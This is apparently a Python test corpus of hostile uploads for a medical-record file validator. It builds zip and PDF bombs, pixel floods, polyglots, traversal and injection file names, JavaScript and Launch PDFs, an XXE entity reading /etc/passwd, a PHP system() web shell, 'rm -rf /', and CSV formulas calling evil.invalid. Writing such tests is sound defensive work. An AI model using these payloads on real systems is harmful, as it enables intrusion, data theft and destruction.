"""Hostile files, each with a name and the outcome it must have; none stands in the repository.

`TAKEN` is the outcome of a file that is kept: pictures made anew, CSV without formulas, PDF with
what acts in it named. Every other outcome is a code of `files.kinds.WORDS`.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pypdfium2
from PIL import Image, ImageDraw

CANARY = b"CANARY-7f3a"
TAKEN = ""
# In two halves, so that no scanner takes this file for what it names.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MAX = 15 * 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """A file that somebody could send.

    Attributes:
        what: why it is here.
        name: what it is called.
        made: makes its bytes.
        outcome: TAKEN or the code of its refusal.
        flags: what of a PDF must be named.
    """

    what: str
    name: str
    made: Callable[[], bytes]
    outcome: str
    flags: tuple[str, ...] = ()


def picture(
    kind: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **extra: object
) -> bytes:
    """Make a real picture."""
    out = io.BytesIO()
    Image.new(mode, size, 0).save(out, kind, **extra)
    return out.getvalue()


def drawn(kind: str, **extra: object) -> bytes:
    """Make a picture that does not compress to nothing."""
    image = Image.effect_noise((120, 90), 80).convert("RGB")
    ImageDraw.Draw(image).text((10, 10), "HGB 7.9", fill="red")
    out = io.BytesIO()
    image.save(out, kind, **extra)
    return out.getvalue()


def exif_jpeg(comment: bytes = CANARY) -> bytes:
    """A photo that says where it was taken and by what."""
    exif = Image.Exif()
    exif[0x010F] = CANARY.decode()
    exif.get_ifd(0x8825)[1] = "N"
    out = io.BytesIO()
    Image.new("RGB", (60, 40)).save(out, "JPEG", exif=exif, comment=comment)
    return out.getvalue()


def segment(mark: int, body: bytes) -> bytes:
    """Make one segment of a JPEG."""
    return struct.pack(">BBH", 0xFF, mark, len(body) + 2) + body


def jpeg_with(*segments: bytes) -> bytes:
    """A photo with segments of somebody's own after its first mark."""
    whole = picture("JPEG")
    return whole[:2] + b"".join(segments) + whole[2:]


def chunk(name: bytes, body: bytes) -> bytes:
    """Make one chunk of a PNG."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_of(width: int, height: int, body: bytes = b"\0" * 100, *extra: bytes) -> bytes:
    """A PNG that announces a size; its pixels are whatever is given."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + b"".join(extra)
        + chunk(b"IDAT", zlib.compress(body, 9))
        + chunk(b"IEND", b"")
    )


def png_with(*chunks: bytes) -> bytes:
    """A small whole PNG with chunks of somebody's own before its pixels."""
    return png_of(4, 4, b"\0" * 52, *chunks)


def apng() -> bytes:
    """A picture that moves."""
    frames = [Image.new("RGB", (20, 20), color) for color in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def pdf(pages: int = 1, size: tuple[float, float] = (200, 100)) -> bytes:
    """Make a real PDF with empty pages."""
    document = pypdfium2.PdfDocument.new()
    for _ in range(pages):
        document.new_page(*size)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def written_pdf(
    page: str = "",
    catalog: str = "",
    trailer: str = "",
    content: str = "",
    stream: bytes | None = None,
    filters: str = "",
    more: tuple[bytes, ...] = (),
) -> bytes:
    """Write a PDF by hand, with what hostile ones carry."""
    shown = content or "BT /F1 12 Tf 20 60 Td (HGB 7.9 g/dL 11.5 - 14.5) Tj ET"
    body = shown.encode("latin-1") if stream is None else stream
    head = f"<< /Length {len(body)} {filters} >>\nstream\n".encode()
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode("latin-1"),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 100] /Contents 4 0 R "
            f"/Resources << /Font << /F1 5 0 R >> >> {page} >>"
        ).encode("latin-1"),
        head + body + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    ]
    out = b"%PDF-1.7\n"
    places = []
    for number, text in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\n".encode("latin-1")
    return out + b"startxref\n%d\n%%%%EOF" % start


def compressed_pdf(hidden: bytes) -> bytes:
    """A PDF with an object that stands in a compressed stream."""
    body = zlib.compress(b"6 0 " + hidden)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        body
    )
    return written_pdf(more=(stream + body + b"\nendstream",))


def zipped(*files: tuple[str, bytes]) -> bytes:
    """Make a compressed folder."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as folder:
        for name, content in files:
            folder.writestr(name, content)
    return out.getvalue()


def tarred() -> bytes:
    """Make another."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as folder:
        folder.addfile(tarfile.TarInfo("../../etc/cron.d/x"), io.BytesIO(b""))
    return out.getvalue()


def bundle(**more: object) -> bytes:
    """Make a FHIR Bundle."""
    return json.dumps({"resourceType": "Bundle", "type": "collection", **more}).encode()


ENCRYPTED = written_pdf(
    trailer="/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 "
    f"/O <{'41' * 32}> /U <{'42' * 32}> >> /ID [<{'43' * 16}> <{'43' * 16}>]"
)
JAVASCRIPT = "/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\)) >>"
LAUNCH = "/OpenAction << /S /Launch /F (calc.exe) >>"
EMBEDDED = "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
PHP = b"<?php system($_GET['x']); ?>"
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 100
EXE = b"MZ\x90\0" + b"\0" * 200
CSV = b"Test,Result,Units\nHGB,7.9,g/dL\n"
BOMB = zlib.compress(b"\0" * 100_000_000, 9)


def honest() -> Iterator[Hostile]:
    """Files as families have them; were they refused, the rest would prove nothing."""
    jpg = [
        ("photo", lambda: picture("JPEG")),
        ("progressive", lambda: drawn("JPEG", progressive=True)),
        ("grey", lambda: picture("JPEG", mode="L")),
        ("print colors (CMYK)", lambda: picture("JPEG", mode="CMYK")),
        ("best quality", lambda: drawn("JPEG", quality=100)),
        ("one pixel", lambda: picture("JPEG", (1, 1))),
        ("very wide", lambda: picture("JPEG", (20_000, 2))),
        ("turned by EXIF", exif_jpeg),
    ]
    yield from (Hostile(f"JPG: {what}", "photo.jpg", made, TAKEN) for what, made in jpg)
    png = [
        ("screenshot", lambda: drawn("PNG")),
        ("clear", lambda: picture("PNG", mode="RGBA")),
        ("clear grey", lambda: picture("PNG", mode="LA")),
        ("16 bits", lambda: picture("PNG", mode="I;16")),
        ("palette", lambda: picture("PNG", mode="P")),
        ("one bit", lambda: picture("PNG", mode="1")),
        ("moving (APNG)", apng),
        ("very tall", lambda: picture("PNG", (2, 20_000))),
    ]
    yield from (Hostile(f"PNG: {what}", "photo.png", made, TAKEN) for what, made in png)
    yield Hostile("PDF: empty page", "page.pdf", pdf, TAKEN)
    yield Hostile("PDF: text", "page.pdf", written_pdf, TAKEN)
    yield Hostile("PDF: 200 pages", "page.pdf", lambda: pdf(200, (50, 50)), TAKEN)
    yield Hostile("CSV", "counts.csv", lambda: CSV, TAKEN)
    yield Hostile("CSV: UTF-8 with BOM", "c.csv", lambda: b"\xef\xbb\xbf" + CSV, TAKEN)
    yield Hostile("CSV: UTF-16", "c.csv", lambda: CSV.decode().encode("utf-16"), TAKEN)
    yield Hostile(
        "CSV: UTF-16 big end first",
        "c.csv",
        lambda: b"\xfe\xff" + CSV.decode().encode("utf-16-be"),
        TAKEN,
    )
    yield Hostile("CSV: Windows", "c.csv", lambda: "Neutrófilos,1.2\n".encode("cp1252"), TAKEN)
    yield Hostile("CSV: old Mac lines", "c.csv", lambda: b"HGB,7.9\rPLT,20\r", TAKEN)
    yield Hostile("JSON: a Bundle", "record.json", bundle, TAKEN)
    yield Hostile("JSON: a Bundle with BOM", "r.json", lambda: b"\xef\xbb\xbf" + bundle(), TAKEN)


def sizes() -> Iterator[Hostile]:
    """Nothing, and too much."""
    for ending in ("jpg", "png", "pdf", "csv", "json", "exe"):
        yield Hostile(f"0 bytes as {ending}", f"x.{ending}", lambda: b"", "empty")
    yield Hostile("blank CSV", "x.csv", lambda: b" \r\n \r\n", "empty")
    yield Hostile("BOM alone", "x.csv", lambda: b"\xef\xbb\xbf", "empty")
    yield Hostile("UTF-16 BOM alone", "x.csv", lambda: b"\xff\xfe", "empty")
    yield Hostile("JPG over 15 MB", "x.jpg", lambda: picture("JPEG") + b"\0" * MAX, "size")
    yield Hostile("PNG over 15 MB", "x.png", lambda: picture("PNG") + b"\0" * MAX, "size")
    yield Hostile("PDF over 15 MB", "x.pdf", lambda: b"%PDF-1.4\n" + b"\0" * MAX, "size")
    yield Hostile("one byte over 15 MB", "x.jpg", lambda: b"\xff" * (MAX + 1), "size")
    yield Hostile("exactly 15 MB of nothing", "x.jpg", lambda: b"\0" * MAX, "mismatch")
    yield Hostile("CSV over 1 MB", "x.csv", lambda: b"HGB,7.9,g/dL\n" * 80_000, "csv_size")
    yield Hostile("CSV of 5,002 rows", "x.csv", lambda: b"HGB,7.9\n" * 5_002, "csv_size")
    yield Hostile("CSV of 5,002 Mac rows", "x.csv", lambda: b"HGB,7.9\r" * 5_002, "csv_size")
    yield Hostile("CSV of one endless row", "x.csv", lambda: b"1," * 600_000, "csv_size")
    yield Hostile("JSON over 5 MB", "x.json", lambda: bundle(x="y" * 5_300_000), "json_size")
    yield Hostile("201 pages", "x.pdf", lambda: pdf(201, (50, 50)), "pages")
    yield Hostile("2,000 pages", "x.pdf", lambda: pdf(2000, (50, 50)), "pages")


def bombs() -> Iterator[Hostile]:
    """Small files that want to be large."""
    yield Hostile("pixel flood 60,000 x 60,000", "x.png", lambda: png_of(60_000, 60_000), "pixels")
    yield Hostile(
        "pixel flood, largest PNG", "x.png", lambda: png_of(2**31 - 1, 2**31 - 1), "pixels"
    )
    yield Hostile("just over 40 megapixels", "x.png", lambda: png_of(8_001, 5_000), "pixels")
    yield Hostile(
        "36 megapixels of nothing",
        "x.png",
        lambda: png_of(6_000, 6_000, b"\0" * 108_006_000),
        TAKEN,
    )
    yield Hostile(
        "print colors over the limit",
        "x.jpg",
        lambda: picture("JPEG", (7_000, 5_000), "CMYK"),
        "pixels",
    )
    yield Hostile("JPG announces 65,500 x 65,500", "x.jpg", lambda: flooded_jpeg(), "pixels")
    yield Hostile(
        "more pixels than announced", "x.png", lambda: png_of(4, 4, b"\0" * 9_000_000), TAKEN
    )
    yield Hostile(
        "PNG text bomb",
        "x.png",
        lambda: png_with(chunk(b"zTXt", b"c\0\0" + BOMB)),
        "damaged",
    )
    yield Hostile(
        "PNG international text bomb",
        "x.png",
        lambda: png_with(chunk(b"iTXt", b"c\0\1\0\0\0" + BOMB)),
        "damaged",
    )
    yield Hostile(
        "PNG profile bomb", "x.png", lambda: png_with(chunk(b"iCCP", b"c\0\0" + BOMB)), "damaged"
    )
    yield Hostile(
        "PDF stream bomb",
        "x.pdf",
        lambda: written_pdf(stream=BOMB, filters="/Filter /FlateDecode"),
        TAKEN,
    )
    yield Hostile(
        "PDF bomb in a bomb",
        "x.pdf",
        lambda: written_pdf(
            stream=zlib.compress(BOMB), filters="/Filter [/FlateDecode /FlateDecode]"
        ),
        TAKEN,
    )
    yield Hostile(
        "PDF object stream bomb",
        "x.pdf",
        lambda: compressed_pdf(b" " * 100_000_000),
        TAKEN,
        ("hidden",),
    )
    yield Hostile("PDF page of 1,000,000 points", "x.pdf", lambda: pdf(1, (1e6, 1e6)), TAKEN)
    yield Hostile("zip bomb", "x.zip", lambda: zipped(("a", b"\0" * 50_000_000)), "archive")
    yield Hostile("zip bomb as PDF", "x.pdf", lambda: zipped(("a", b"\0" * 50_000_000)), "mismatch")
    yield Hostile("zip bomb as CSV", "x.csv", lambda: zipped(("a", b"\0" * 50_000_000)), "mismatch")
    yield Hostile("gzip bomb", "x.csv.gz", lambda: gzip.compress(b"\0" * 50_000_000), "archive")
    yield Hostile(
        "gzip bomb as CSV", "x.csv", lambda: gzip.compress(b"\0" * 50_000_000), "mismatch"
    )
    yield Hostile(
        "gzip bomb as JSON", "x.json", lambda: gzip.compress(b"\0" * 5_000_000), "mismatch"
    )
    for what, text in {
        "100,000 open lists": b"[" * 100_000,
        "100,000 open objects": b'{"a":' * 100_000,
        "2,000,000 empty objects": b"[" + b"{}," * 1_500_000 + b"{}]",
        "a deep Bundle": b'{"resourceType":"Bundle","x":' + b"[" * 5000 + b"]" * 5000 + b"}",
        "a number of a million digits": b'{"resourceType":"Bundle","x":' + b"9" * 1_000_000 + b"}",
        "infinity": b'{"resourceType":"Bundle","x":Infinity}',
        "not a number": b'{"resourceType":"Bundle","x":NaN}',
        "minus infinity": b'{"resourceType":"Bundle","x":-Infinity}',
        "no Bundle": b'{"resourceType":"Patient"}',
        "a list": b'[{"resourceType":"Bundle"}]',
        "a text": b'"Bundle"',
        "null": b"null",
        "half a Bundle": bundle()[:-1],
        "two Bundles": bundle() + bundle(),
        "a Bundle in UTF-16": bundle().decode().encode("utf-16"),
        "a broken letter": b'{"resourceType":"Bundle","x":"\xff\xfe"}',
        "a raw zero": b'{"resourceType":"Bundle","x":"\0"}',
        "a comment": b'{"resourceType":"Bundle"} // x',
        "a script": HTML,
    }.items():
        yield Hostile(f"JSON: {what}", "x.json", lambda text=text: text, "json")
    yield Hostile(
        "JSON: a huge exponent", "x.json", lambda: b'{"resourceType":"Bundle","x":1e999999}', TAKEN
    )
    yield Hostile(
        "JSON: the same key 100,000 times",
        "x.json",
        lambda: b"{" + b'"a":1,' * 100_000 + b'"resourceType":"Bundle"}',
        TAKEN,
    )


def flooded_jpeg() -> bytes:
    """A photo whose head announces the most pixels there can be."""
    whole = bytearray(picture("JPEG"))
    place = whole.index(b"\xff\xc0")
    whole[place + 5 : place + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(whole)


def names() -> Iterator[Hostile]:
    """Names that lie, hide, climb or do not end."""
    photo = lambda: picture("JPEG")  # noqa: E731
    for name, outcome in {
        "photo.exe": "type",
        "photo.svg": "type",
        "photo.html": "type",
        "photo.gif": "type",
        "photo.webp": "type",
        "photo.tiff": "type",
        "photo.bmp": "type",
        "photo.docx": "type",
        "photo.xlsx": "type",
        "photo.dcm": "type",
        "photo.php": "type",
        "photo.jpg.php": "type",
        "photo.jpg.exe": "type",
        "photo.jpg ": "type",
        "photo.jpg.": "type",
        ".jpg.": "type",
        "photo": "type",
        ".": "type",
        "..": "type",
        "photo.jpg\0.php": "type",
        "photo.php\0": "type",
        "photo.jpg/": "type",
        "photo.jpg::$DATA": "type",
        "../../etc/passwd": "type",
        "photo\u202egpj.exe": "type",
        "photo.\u202egpj": "type",
        "photo.jpg\u200b": "type",
        "photo．jpg": "type",
        "photo.ｊｐｇ": "type",
        "photo.png": "mismatch",
        "photo.pdf": "mismatch",
        "photo.csv": "mismatch",
        "photo.json": "mismatch",
        "photo.exe.png": "mismatch",
        "photo.heic": "heic",
        "photo.HEIF": "heic",
        "photo.zip": "archive",
        "photo.7z": "archive",
        "photo.jpg.rar": "archive",
        ".jpg": TAKEN,
        "PHOTO.JPG": TAKEN,
        "photo.JpEg": TAKEN,
        "photo.php.jpg": TAKEN,
        "photo.exe.jpg": TAKEN,
        "photo.svg.jpg": TAKEN,
        "../../photo.jpg": TAKEN,
        "..\\..\\photo.jpg": TAKEN,
        "/etc/photo.jpg": TAKEN,
        "C:\\Users\\photo.jpg": TAKEN,
        "photo\r\nX-Injected: 1.jpg": TAKEN,
        "photo\0.jpg": TAKEN,
        'photo".jpg': TAKEN,
        "<script>alert(1)</script>.jpg": TAKEN,
        "'; DROP TABLE files; --.jpg": TAKEN,
        "{{ 7*7 }}.jpg": TAKEN,
        "%s%s%n.jpg": TAKEN,
        "$(reboot).jpg": TAKEN,
        "-rf.jpg": TAKEN,
        "con.jpg": TAKEN,
        "NUL.jpg": TAKEN,
        "a" * 300 + ".jpg": TAKEN,
        "é" * 300 + ".jpg": TAKEN,
        "👶" * 300 + ".jpg": TAKEN,
        "x." * 150 + "jpg": TAKEN,
        "foto\u202e\u00e9.jpg": TAKEN,
        "צילום.jpg": TAKEN,
        "صورة.jpg": TAKEN,
        "e\u0301" * 50 + ".jpg": TAKEN,
        "\ufeffphoto.jpg": TAKEN,
    }.items():
        yield Hostile(f"a photo called {name[:40]!r}", name, photo, outcome)


def polyglots() -> Iterator[Hostile]:
    """Two things at once, and things that are not what they say."""
    for what, content in {
        "HTML": HTML,
        "SVG": SVG,
        "PHP": PHP,
        "a program": EXE,
        "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "a zip": zipped(("a", b"x")),
        "a tar": tarred(),
        "a GIF": picture("GIF"),
        "a TIFF": picture("TIFF"),
        "a WEBP": picture("WEBP"),
        "text": b"hello",
        "one byte": b"\xff",
        "XML with entities": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    }.items():
        for ending in ("jpg", "png", "pdf"):
            yield Hostile(f"{what} as {ending}", f"x.{ending}", lambda c=content: c, "mismatch")
    yield Hostile("PNG as JPG", "x.jpg", lambda: picture("PNG"), "mismatch")
    yield Hostile("JPG as PNG", "x.png", lambda: picture("JPEG"), "mismatch")
    yield Hostile("PDF as JPG", "x.jpg", pdf, "mismatch")
    yield Hostile("PDF as CSV", "x.csv", pdf, "mismatch")
    yield Hostile("GIF and script as CSV", "x.csv", lambda: b"GIF89a/*x*/=1;", "mismatch")
    yield Hostile("GIF before JPG", "x.jpg", lambda: b"GIF89a" + picture("JPEG"), "mismatch")
    yield Hostile("HTML before PDF", "x.pdf", lambda: HTML + pdf(), "mismatch")
    yield Hostile("HEIC as JPG", "x.jpg", lambda: HEIC, "heic")
    yield Hostile("AVIF as PNG", "x.png", lambda: HEIC.replace(b"heic", b"avif", 1), "heic")
    yield Hostile("HTML as CSV", "x.csv", lambda: HTML, TAKEN)
    yield Hostile("SVG as CSV", "x.csv", lambda: SVG, TAKEN)
    for what, tail in {
        "PHP": PHP,
        "HTML": HTML,
        "a zip": zipped(("a", b"x")),
        "a program": EXE,
        "a PDF": pdf(),
        "a virus": EICAR,
    }.items():
        tailed = lambda whole, tail=tail: whole() + tail + CANARY  # noqa: E731
        yield Hostile(
            f"JPG with {what} behind it",
            "x.jpg",
            lambda t=tailed: t(lambda: picture("JPEG")),
            TAKEN,
        )
        yield Hostile(
            f"PNG with {what} behind it", "x.png", lambda t=tailed: t(lambda: picture("PNG")), TAKEN
        )
        yield Hostile(f"PDF with {what} behind it", "x.pdf", lambda t=tailed: t(written_pdf), TAKEN)
    yield Hostile("JPG with PHP in its comment", "x.jpg", lambda: exif_jpeg(PHP + CANARY), TAKEN)
    yield Hostile(
        "PNG with script in its text",
        "x.png",
        lambda: png_with(chunk(b"tEXt", b"Comment\0" + HTML + CANARY)),
        TAKEN,
    )
    yield Hostile(
        "PNG with a chunk of its own", "x.png", lambda: png_with(chunk(b"haCk", CANARY * 50)), TAKEN
    )


def metadata() -> Iterator[Hostile]:
    """What cameras and programs write beside the pixels."""
    exif = b"Exif\0\0"
    loop = exif + b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, 8)
    far = exif + b"II*\0\xff\xff\xff\x7f"
    many = exif + b"MM\0*\0\0\0\x08" + b"\xff\xff" + b"\x01\x0f\0\x02\0\0\xff\xff\0\0\0\0" * 5000
    for what, body in {
        "EXIF that points at itself": loop,
        "EXIF that points far away": far,
        "EXIF of 65,535 entries": many[:65_000],
        "EXIF of 64 KB": exif + CANARY * 5_900,
        "EXIF cut": exif[:5],
        "EXIF with no body": exif,
    }.items():
        yield Hostile(what, "x.jpg", lambda b=body: jpeg_with(segment(0xE1, b)), TAKEN)
    yield Hostile(
        "200 EXIF segments",
        "x.jpg",
        lambda: jpeg_with(*(segment(0xE1, exif + CANARY * 5_000) for _ in range(200))),
        TAKEN,
    )
    icc = b"ICC_PROFILE\0\x01\x01"
    yield Hostile("ICC of nonsense", "x.jpg", lambda: jpeg_with(segment(0xE2, icc + CANARY)), TAKEN)
    yield Hostile(
        "ICC piece 9 of 1",
        "x.jpg",
        lambda: jpeg_with(segment(0xE2, icc[:-2] + b"\x09\x01x")),
        TAKEN,
    )
    yield Hostile(
        "Photoshop block of nonsense",
        "x.jpg",
        lambda: jpeg_with(segment(0xED, b"Photoshop 3.0\0" + CANARY)),
        TAKEN,
    )
    yield Hostile(
        "PNG with EXIF", "x.png", lambda: png_with(chunk(b"eXIf", b"II*\0" + CANARY)), TAKEN
    )
    yield Hostile(
        "PNG of 5,000 texts", "x.png", lambda: png_with(*[chunk(b"tEXt", b"a\0b")] * 5_000), TAKEN
    )
    yield Hostile(
        "PNG with its head twice", "x.png", lambda: png_with(chunk(b"IHDR", b"\0" * 13)), "damaged"
    )


def pdfs() -> Iterator[Hostile]:
    """PDFs that act, hide or loop."""
    hex_js = "/OpenAction << /S /J#61vaScript /J#53 (x) >>"
    for what, catalog, flags in (
        ("JavaScript at opening", JAVASCRIPT, ("javascript",)),
        ("JavaScript with a disguised name", hex_js, ("javascript",)),
        (
            "JavaScript in its names",
            "/Names << /JavaScript << /Names [(a) 3 0 R] >> >>",
            ("javascript",),
        ),
        ("JavaScript at closing", "/AA << /WC << /S /JavaScript /JS (x) >> >>", ("javascript",)),
        ("a program to launch", LAUNCH, ("launch",)),
        ("an embedded file", EMBEDDED, ("embedded",)),
        ("another file to go to", "/OpenAction << /S /GoToR /F (//evil.invalid/a) >>", ("launch",)),
        ("a form to send", "/OpenAction << /S /SubmitForm /F (http://evil.invalid/) >>", ("form",)),
        ("an XFA form", "/AcroForm << /XFA 4 0 R >>", ("form",)),
        ("an address to open", "/OpenAction << /S /URI /URI (http://127.0.0.1/) >>", ("link",)),
    ):
        yield Hostile(
            f"PDF with {what}", "x.pdf", lambda c=catalog: written_pdf(catalog=c), TAKEN, flags
        )
    yield Hostile(
        "PDF with JavaScript on a page",
        "x.pdf",
        lambda: written_pdf(page="/AA << /O << /S /JavaScript /JS (x) >> >>"),
        TAKEN,
        ("javascript",),
    )
    yield Hostile(
        "PDF with JavaScript in a compressed object",
        "x.pdf",
        lambda: compressed_pdf(b"<< /S /JavaScript /JS (x) >>"),
        TAKEN,
        ("javascript",),
    )
    yield Hostile(
        "PDF with an object stream that cannot be read",
        "x.pdf",
        lambda: written_pdf(
            more=(
                b"<< /Type /ObjStm /N 1 /First 4 /Filter /Crypt /Length 1 >>\nstream\nx\nendstream",
            )
        ),
        TAKEN,
        ("hidden",),
    )
    yield Hostile("PDF with a password", "x.pdf", lambda: ENCRYPTED, "encrypted")
    loop = lambda: written_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")  # noqa: E731
    yield Hostile("PDF whose pages loop", "x.pdf", loop, "damaged")
    no_pages = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>"
    yield Hostile("PDF without pages", "x.pdf", lambda: no_pages, "damaged")
    yield Hostile("PDF head alone", "x.pdf", lambda: b"%PDF-1.7\n", "damaged")
    yield Hostile(
        "PDF head and noise", "x.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 50, "damaged"
    )
    yield Hostile(
        "PDF that says it has 2 billion pages",
        "x.pdf",
        lambda: written_pdf().replace(b"/Count 1", b"/Count 2147483647"),
        TAKEN,
    )
    yield Hostile(
        "PDF with endless graphics states",
        "x.pdf",
        lambda: written_pdf(content="q " * 500_000),
        TAKEN,
    )
    yield Hostile(
        "PDF with a page of no size",
        "x.pdf",
        lambda: written_pdf().replace(b"[0 0 300 100]", b"[0 0 0 0]    "),
        TAKEN,
    )


def texts() -> Iterator[Hostile]:
    """CSV that a spreadsheet would run, and text that is none."""
    for what, cell in {
        "a command": "=cmd|' /C calc'!A0",
        "a link": '=HYPERLINK("http://evil.invalid/","x")',
        "a sum": "@SUM(1+1)*cmd",
        "plus": "+cmd|x!A0",
        "minus": "-2+3+cmd|x!A0",
        "behind a tab": "\t=1+1",
        "behind a blank": "  =1+1",
        "quoted": '"=1+1"',
        "full width": "＝1+1",
        "behind a semicolon": "a;=1+1",
        "web service": '=WEBSERVICE("http://evil.invalid/"&A1)',
        "DDE": '=DDE("cmd";"/C calc";"x")',
    }.items():
        yield Hostile(
            f"CSV formula: {what}", "x.csv", lambda c=cell: f"HGB,7.9\n{c},1\n".encode(), TAKEN
        )
    yield Hostile("CSV with zeros", "x.csv", lambda: b"HGB,\x007.9\n", "text")
    yield Hostile("CSV of every byte", "x.csv", lambda: bytes(range(256)), "text")
    yield Hostile("CSV that talks to a terminal", "x.csv", lambda: b"HGB,7.9\x1b[2J\n", "text")
    yield Hostile("CSV of half a letter", "x.csv", lambda: b"\xff\xfeH", "text")
    yield Hostile("CSV of a lone surrogate", "x.csv", lambda: b"\xff\xfe\x00\xd8", "text")
    yield Hostile("CSV in UTF-32", "x.csv", lambda: CSV.decode().encode("utf-32"), "text")
    yield Hostile("a program as CSV", "x.csv", lambda: EXE, "text")
    yield Hostile("a database as CSV", "x.csv", lambda: b"SQLite format 3\0" + b"\0" * 84, "text")
    yield Hostile("CSV of one quote", "x.csv", lambda: b'"', TAKEN)
    yield Hostile("CSV of 300,000 quotes", "x.csv", lambda: b'"' * 300_000, TAKEN)


def damaged() -> Iterator[Hostile]:
    """Cut at many points, and headers alone."""
    for share in (5, 10, 20, 30, 40, 50, 60, 70, 80, 90):
        cut = lambda whole, share=share: whole[: len(whole) * share // 100]  # noqa: E731
        yield Hostile(f"JPG cut at {share}%", "x.jpg", lambda c=cut: c(drawn("JPEG")), "damaged")
        yield Hostile(f"PNG cut at {share}%", "x.png", lambda c=cut: c(drawn("PNG")), "damaged")
        yield Hostile(
            f"progressive JPG cut at {share}%",
            "x.jpg",
            lambda c=cut: c(drawn("JPEG", progressive=True)),
            "damaged",
        )
    for share in (5, 10, 15, 20, 30, 40):
        yield Hostile(
            f"PDF cut at {share}%",
            "x.pdf",
            lambda s=share: written_pdf()[: len(written_pdf()) * s // 100],
            "damaged",
        )
    yield Hostile("JPG head alone", "x.jpg", lambda: b"\xff\xd8\xff\xe0", "damaged")
    yield Hostile("JPG of marks alone", "x.jpg", lambda: b"\xff\xd8" + b"\xff" * 5000, "damaged")
    yield Hostile("JPG that ends at once", "x.jpg", lambda: b"\xff\xd8\xff\xd9", "damaged")
    yield Hostile("PNG head alone", "x.png", lambda: b"\x89PNG\r\n\x1a\n", "damaged")
    yield Hostile("PNG of no size", "x.png", lambda: png_of(0, 0), "damaged")
    yield Hostile(
        "PNG with a wrong sum",
        "x.png",
        lambda: picture("PNG")[:29] + b"\0\0\0\0" + picture("PNG")[33:],
        "damaged",
    )
    yield Hostile(
        "PNG with a chunk of 4 GB",
        "x.png",
        lambda: picture("PNG")[:33] + b"\xff\xff\xff\xff" + picture("PNG")[37:],
        TAKEN,
    )


CORPUS: tuple[Hostile, ...] = tuple(
    one
    for group in (honest, sizes, bombs, names, polyglots, metadata, pdfs, texts, damaged)
    for one in group()
)
